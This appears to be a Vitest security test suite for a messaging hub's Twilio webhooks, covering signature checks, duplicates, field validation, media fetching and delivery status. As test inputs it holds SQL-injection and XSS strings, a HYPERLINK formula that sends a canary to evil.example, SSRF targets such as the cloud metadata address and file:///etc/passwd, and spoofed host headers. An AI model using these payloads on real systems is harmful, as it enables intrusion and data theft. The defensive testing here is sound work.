import { describe, expect } from 'vitest'
import { companyNumber, credentials } from '../support/hub.ts'
import { newSid } from '../support/factories.ts'
import { canary, hub, http, messageOf, messageTables, row, smsOf, supervisor, twilio } from './harness.ts'

const otherToken = 'somebody-elses-token-000000000000'
const otherAccount = `AC${'9'.repeat(32)}`
const form = { 'content-type': 'application/x-www-form-urlencoded' }
const twimlOf = { status: 200, body: '<Response/>' }

async function takes(params: Record<string, string>, sent: Parameters<typeof twilio>[1] = {}) {
  expect(await twilio(params, sent)).toMatchObject(twimlOf)
  return messageOf(params['MessageSid'] ?? '')
}

async function refuses(status: number, ...tries: (() => ReturnType<typeof twilio>)[]): Promise<void> {
  for (const attempt of tries) expect((await attempt()).status).toBe(status)
}

export function twilioRows(): void {
  describe('Twilio: signature and transport', () => {
    const text = `hello ${canary.word}`
    row('twilio', 'TW-01', 'no signature', () => refuses(403, () => twilio(smsOf(text), { signature: '' }), () => twilio(smsOf(text), { signature: 'x' }), () => twilio(smsOf(text), { signature: '', path: '/webhooks/twilio/voice' })))
    row('twilio', 'TW-03', 'the token of somebody else, whichever account the body names', () => refuses(403, () => twilio(smsOf(text), { token: otherToken }), () => twilio(smsOf(text, { AccountSid: otherAccount }), { token: otherToken })))
    row('twilio', 'TW-04', 'another text than was signed', () => refuses(403, () => twilio(smsOf(`${text}!`), { signedAs: smsOf(text) })))
    row('twilio', 'TW-06, TW-07', 'borders between fields moved so that the signature still fits', async () => {
      const params = smsOf(text)
      const { From, ...others } = params
      await refuses(400, () => twilio({ ...others, Fro: `m${From}` }, { signedAs: params }), () => twilio({ ...others, Body: `${params['Body']}From${From}` }, { signedAs: params }))
    })
    row('twilio', 'TW-09', 'a parameter twice', () => refuses(400, () => twilio(smsOf(text), { body: `${new URLSearchParams(smsOf(text)).toString()}&Body=${canary.word}` })))
    row('twilio', 'TW-10', 'nested keys', () => refuses(400, ...['From[not]', 'From[$gt]', 'From[]'].map((name) => () => {
      const { From, ...others } = smsOf(text)
      return twilio({ ...others, [name]: From ?? '' })
    })))
    row('twilio', 'TW-12', 'forwarding headers that name another host', () => refuses(403, () => twilio(smsOf(text), {
      headers: { 'x-forwarded-host': 'evil.example', forwarded: 'host=evil.example;proto=https', 'x-forwarded-proto': 'https' }, signedUrl: 'https://evil.example/webhooks/twilio/messages',
    })))
    row('twilio', 'TW-13', 'another host, with a valid signature', () => refuses(421, ...['evil.example', 'evil.example:80', `evil.example@${new URL(hub().url).host}`, `${new URL(hub().url).host}.evil.example`].map((host) => () => twilio(smsOf(text), { headers: { host } }))))
    row('twilio', 'TW-15', 'a query that was not signed', () => refuses(403, ...['bodySHA256=00', 'x=1', ''].map((query) => () => twilio(smsOf(text), { path: `/webhooks/twilio/messages?${query}`, signedUrl: `${hub().url}/webhooks/twilio/messages`, ...(query === '' ? { token: otherToken } : {}) }))))
    row('twilio', 'TW-16', 'JSON where a form belongs, a form where JSON belongs, nothing at all', async () => {
      await refuses(415, () => twilio(smsOf(text), { body: JSON.stringify(smsOf(text)), headers: { 'content-type': 'application/json' } }), () => http('POST', '/webhooks/slack/events', { headers: form, body: 'payload={}' }), () => http('POST', '/webhooks/twilio/messages', { headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x--' }))
      await refuses(405, () => http('GET', '/webhooks/twilio/messages'), () => http('PUT', '/webhooks/twilio/messages', { headers: form, body: 'a=1' }))
    })
  })

  describe('Twilio: duplicates', () => {
    row('twilio', 'TW-20, TW-23', 'the same five times, each with another idempotency token', async () => {
      const params = smsOf('once is enough')
      for (let i = 0; i < 5; i++) expect(await twilio(params, { headers: { 'i-twilio-idempotency-token': `${i}` } })).toMatchObject(twimlOf)
      expect(await hub().db.query('select 1 from message where external_id = $1', [params['MessageSid']])).toHaveLength(1)
    }, { changes: messageTables })
    row('twilio', 'TW-22', 'the same again after thirty days', async () => {
      const params = smsOf('a month ago')
      await takes(params)
      await hub().db.execute(`update receipt set received_at = received_at - interval '31 days', handled_at = handled_at - interval '31 days' where external_id = $1`, [params['MessageSid']])
      await hub().sweep()
      await hub().runTimers()
      await takes(params)
    }, { changes: messageTables })
    row('twilio', 'TW-25', 'twenty copies at once', async () => {
      const params = smsOf('all at once')
      for (const answer of await Promise.all(Array.from({ length: 20 }, () => twilio(params)))) expect(answer).toMatchObject(twimlOf)
      expect(await hub().db.query('select 1 from message where external_id = $1', [params['MessageSid']])).toHaveLength(1)
    }, { changes: messageTables })
  })

  describe('Twilio: fields', () => {
    row('twilio', 'TW-27', 'message ids that are none', () => refuses(400, ...['', `SM${'a'.repeat(33)}`, 'x'.repeat(5_000), `SM' or 1=1 --`, `SM${'g'.repeat(32)}`].map((sid) => () => twilio(smsOf('x', { MessageSid: sid }))), () => {
      const { MessageSid: _sid, ...others } = smsOf('x')
      return twilio(others)
    }))
    row('twilio', 'TW-29', 'a short code is no phone number of any country', async () => {
      const { identityId } = await takes(smsOf('hi', { From: '12345' }))
      expect(await hub().db.one('select kind, value from identity where id = $1', [identityId])).toEqual({ kind: 'phone', value: '12345' })
    }, { changes: messageTables })
    row('twilio', 'TW-30', 'our own number talks to itself', async () => {
      expect(await twilio(smsOf('echo', { From: companyNumber }))).toMatchObject(twimlOf)
    }, { changes: ['receipt'] })
    row('twilio', 'TW-32', 'a number nobody configured', async () => {
      const params = smsOf(`for nobody ${canary.word}`, { To: '+15559999' })
      expect((await twilio(params)).status).toBe(404)
      expect(await hub().db.one('select state, reason from receipt where external_id = $1', [params['MessageSid']])).toMatchObject({ state: 'quarantined' })
    }, { changes: ['receipt'], isCounted: true })
    row('twilio', 'TW-33', 'an account we do not know, signed with our token', () => refuses(403, () => twilio(smsOf('x', { AccountSid: otherAccount }))))
    row('twilio', 'TW-35', 'a long text is kept whole', async () => {
      const text = `${'long '.repeat(4_000)}end`
      expect((await takes(smsOf(text))).text).toBe(text)
    }, { changes: messageTables })
    row('twilio', 'TW-35', 'a text of 110 KB', () => refuses(413, () => twilio(smsOf('x'.repeat(110_000)))))
    row('twilio', 'TW-36', 'NUL and broken characters', async () => {
      const params = smsOf('x')
      expect((await takes(params, { body: new URLSearchParams(params).toString().replace('Body=x', 'Body=a%00b%FF%ED%A0%80'), signedAs: { ...params, Body: 'a\0b\uFFFD\uFFFD\uFFFD\uFFFD' } })).text).toMatch(/^ab\uFFFD+$/)
    }, { changes: messageTables })
    row('twilio', 'TW-38', 'right-to-left marks, invisible characters and ten thousand accents', async () => {
      const text = `\u202Egnp.exe \u200B\u2066 ${'Z\u0351\u036B\u0343'.repeat(3_000)}`
      expect((await takes(smsOf(text))).text).toBe(text)
    }, { changes: messageTables })
    row('twilio', 'TW-39, TW-44, TW-45', 'markup, formulas and pasted keys are text, and no log has them', async () => {
      for (const text of [`<script>alert("${canary.word}")</script><img src=x onerror=alert(1)>`, `[${canary.word}](javascript:alert(1))`, `=HYPERLINK("http://evil.example/${canary.word}")`, `AKIA${canary.word.toUpperCase()} my password is ${canary.word}-1`]) {
        expect(await takes(smsOf(text))).toMatchObject({ text, html: null })
      }
    }, { changes: messageTables })
    row('twilio', 'TW-41', 'START of somebody who never stopped', async () => {
      const { contactId } = await takes(smsOf('START', { From: '+41795550188' }))
      expect(contactId).toBeNull()
    }, { changes: messageTables })
    row('twilio', 'TW-42', 'a card number is nowhere', async () => {
      const digits = canary.card.replaceAll(' ', '')
      for (const number of [canary.card, canary.card.replaceAll(' ', '-'), digits]) expect((await takes(smsOf(`my card is ${number} thanks`))).text).toMatch(/^my card is [• -]+1111 thanks$/)
      for (const written of ['4111%1111', '4111_1111_1111_1111%']) {
        for (const table of ['message', 'contact', 'event']) expect(await hub().db.query(`select 1 from ${table} t where to_jsonb(t)::text like $1`, [`%${written}%`])).toEqual([])
      }
      const bodies = await hub().db.query<{ body: Buffer }>(`select body from receipt where received_at > clock_timestamp() - interval '1 minute'`)
      expect(bodies.filter(({ body }) => body.toString('latin1').replaceAll(/[^\d=&]/g, '').includes(digits))).toEqual([])
    }, { changes: messageTables })
    row('twilio', 'TW-47', 'odd values where nothing depends on them', async () => {
      expect((await takes(smsOf('fine', { NumSegments: 'many', Price: '{"a":1}', ErrorCode: '-', NumMedia: 'x', Unknown: '1', __proto__x: 'y', constructor: 'z' }))).text).toBe('fine')
    }, { changes: messageTables })
    row('twilio', 'TW-48', 'fifteen hundred parameters', () => refuses(413, () => http('POST', '/webhooks/twilio/messages', { headers: { ...form, 'x-twilio-signature': 'x' }, body: Array.from({ length: 1_500 }, (_, i) => `p${i}=1`).join('&') })))
  })

  describe('Twilio: media', () => {
    const fileTables = [...messageTables, 'attachment']
    const files = (messageId: string) => hub().db.query<{ state: string; reason: string; attempts: number; dueAt: Date | null }>(`select state, state_reason as reason, attempts, next_attempt_at as "dueAt" from attachment where message_id = $1`, [messageId])
    row('twilio', 'TW-50, TW-53', 'media at addresses that are not the provider’s are never asked for', async () => {
      for (const url of ['http://169.254.169.254/latest/meta-data', 'http://[::ffff:127.0.0.1]/', 'http://0x7f.1/', 'https://2130706433/', 'http://127.1/', 'https://api.twilio.com.evil.example/x', 'file:///etc/passwd', 'not an address']) {
        const { id } = await takes(smsOf('', { MessageSid: newSid('MM'), NumMedia: '1', MediaUrl0: url, MediaContentType0: 'image/png' }))
        await hub().quiet()
        expect(await files(id), url).toEqual([{ state: 'refused', reason: 'foreign-address', attempts: 1, dueAt: null }])
      }
    }, { changes: fileTables })
    row('twilio', 'TW-59', 'media the provider no longer has', async () => {
      const { id } = await takes(smsOf('see', { MessageSid: newSid('MM'), NumMedia: '1', MediaUrl0: `${hub().simulator?.twilioUrl}/2010-04-01/Accounts/${credentials.accountSid}/Messages/${newSid('MM')}/Media/${newSid('ME')}`, MediaContentType0: 'image/png' }))
      await hub().quiet()
      expect(await files(id)).toEqual([{ state: 'failed', reason: 'gone-at-provider', attempts: 1, dueAt: null }])
    }, { changes: fileTables })
  })

  describe('Twilio: status', () => {
    const sendTables = [...messageTables, 'outbound', 'assignment', 'agent_state', 'load_interval', 'status_report']
    /** Lena answers somebody; the provider's id of her answer. */
    async function answered(channel: 'sms' | 'whatsapp'): Promise<{ sid: string; id: string; to: string }> {
      const to = `+4179555${String(2000 + Math.floor(Math.random() * 7999))}`
      const prefix = channel === 'whatsapp' ? 'whatsapp:' : ''
      const params = smsOf('question', { From: prefix + to, To: prefix + companyNumber, ...(channel === 'whatsapp' ? { WaId: to.slice(1), ProfileName: 'Mei' } : {}) })
      const { conversationId, identityId } = await takes(params)
      const account = await hub().db.one<{ id: string }>('select id from channel_account where channel = $1', [channel])
      const { id } = (await supervisor().must('POST', `/conversations/${conversationId}/messages`, { kind: 'reply', clientId: newSid(''), text: 'answer', channel, identityId, accountId: account.id })) as { id: string }
      await hub().quiet()
      const { sid } = await hub().db.one<{ sid: string }>('select external_id as sid from outbound where message_id = $1', [id])
      return { sid, id, to: prefix + to }
    }
    const status = (sent: { sid: string; to: string }, word: string, more: Record<string, string> = {}) =>
      twilio({ MessageSid: sent.sid, SmsSid: sent.sid, AccountSid: credentials.accountSid, From: sent.to.startsWith('whatsapp:') ? `whatsapp:${companyNumber}` : companyNumber, To: sent.to, MessageStatus: word, ApiVersion: '2010-04-01', ...more }, { path: '/webhooks/twilio/status' })
    const stateOf = (id: string) => hub().db.one<{ status: string; reason: string | null }>('select status, status_reason as reason from message where id = $1', [id])

    row('twilio', 'TW-60', 'the provider’s words in the wrong order', async () => {
      const sent = await answered('sms')
      for (const word of ['delivered', 'sent', 'queued', 'delivered', 'hologram']) expect(await status(sent, word)).toMatchObject({ status: 200 })
      expect(await stateOf(sent.id)).toMatchObject({ status: 'delivered' })
    }, { changes: sendTables })
    row('twilio', 'TW-62', 'a word on something we do not know yet', async () => {
      expect(await status({ sid: newSid(), to: canary.phone }, 'delivered')).toMatchObject({ status: 200 })
    }, { changes: ['receipt', 'status_report'] })
    row('twilio', 'TW-65', 'read without delivered', async () => {
      const sent = await answered('whatsapp')
      expect(await status(sent, 'read')).toMatchObject({ status: 200 })
      expect(await status(sent, 'delivered')).toMatchObject({ status: 200 })
      expect(await stateOf(sent.id)).toMatchObject({ status: 'read' })
    }, { changes: sendTables })
    row('twilio', 'TW-60', 'a status without message, with a status that is none', () => refuses(400, () => status({ sid: 'x', to: canary.phone }, 'sent'), () => status({ sid: newSid(), to: canary.phone }, "'; drop"), () => status({ sid: newSid(), to: canary.phone }, '')))
  })

  describe('Twilio: WhatsApp and voice', () => {
    const whatsapp = (more: Record<string, string>) => smsOf('', { From: `whatsapp:${canary.phone}`, To: `whatsapp:${companyNumber}`, WaId: canary.phone.slice(1), ProfileName: canary.word, ...more })
    row('twilio', 'TW-82, TW-83', 'places that are none, contact cards, stickers, buttons, kinds nobody knows', async () => {
      for (const [more, text] of [
        [{ MessageType: 'location', Latitude: '91', Longitude: 'abc' }, '📍'], [{ MessageType: 'location', Latitude: '47.3', Longitude: '8.5', Label: 'Home' }, '📍 47.3, 8.5 · Home'],
        [{ MessageType: 'button', ButtonText: 'Yes' }, '🔘 Yes'], [{ MessageType: 'hologram' }, '❔ hologram'], [{ MessageType: 'contacts' }, '👤'],
      ] as const) expect((await takes(whatsapp(more))).text).toBe(text)
    }, { changes: messageTables })
    row('twilio', 'TW-85', 'the same number by WhatsApp and by SMS is one customer', async () => {
      const [first, second] = [await takes(smsOf('sms')), await takes(whatsapp({ Body: 'whatsapp' }))]
      expect(second.conversationId).toBe(first.conversationId)
    }, { changes: messageTables })
    row('twilio', 'TW-66', 'steps of calls without signature, with ids and addresses that are none', async () => {
      const call = { CallSid: newSid('CA'), AccountSid: credentials.accountSid, From: canary.phone, To: companyNumber, CallStatus: 'ringing', Direction: 'inbound' }
      const path = '/webhooks/twilio/voice'
      await refuses(403, () => twilio(call, { path, signature: '' }), () => twilio(call, { path, token: otherToken }))
      await refuses(400, () => twilio({ ...call, CallSid: 'CA1' }, { path }), () => twilio({ ...call, CallSid: `CA' or 1=1` }, { path }), () => twilio(call, { path: `${path}?session=${canary.word}` }))
      await refuses(421, () => twilio(call, { path, headers: { host: 'evil.example' } }))
    })
  })
}
